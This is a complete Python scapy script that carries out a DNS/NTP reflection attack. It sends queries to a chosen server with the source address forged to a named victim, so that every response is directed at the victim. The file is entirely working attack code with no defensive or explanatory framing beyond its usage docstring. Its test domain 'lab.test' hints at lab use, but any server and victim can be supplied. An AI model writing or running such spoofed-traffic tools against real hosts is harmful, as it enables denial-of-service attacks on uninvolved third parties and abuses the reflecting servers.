#!/usr/bin/env python3
"""Reflection with scapy: sends COUNT requests to SERVER's PORT (53: DNS ANY/TXT queries, 123: NTP
client requests) whose source is forged to VICTIM, one every GAP seconds, so that the answers go to
the victim. Usage: reflect.py SERVER VICTIM 53|123 COUNT GAP"""
import random, sys, time
from scapy.all import IP, UDP, DNS, DNSQR, NTP, send, conf

def main():
    if sys.argv[1:2] in (['-h'], ['--help']):
        print(__doc__); return
    if len(sys.argv) != 6:
        sys.exit(__doc__)
    server, victim, port, count, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    conf.verb = 0
    for _ in range(count):
        sport = random.randint(1024, 65535)
        if port == 53:
            payload = DNS(id=random.randint(0, 65535), rd=1, qd=DNSQR(qname='lab.test', qtype=random.choice(['ANY', 'TXT', 'MX'])))
        else:
            payload = NTP(version=4, mode=3, sent=time.time() + 2208988800)   # chrony ignores a zero transmit time
        send(IP(src=victim, dst=server) / UDP(sport=sport, dport=port) / payload)
        time.sleep(gap)

if __name__ == '__main__':
    main()
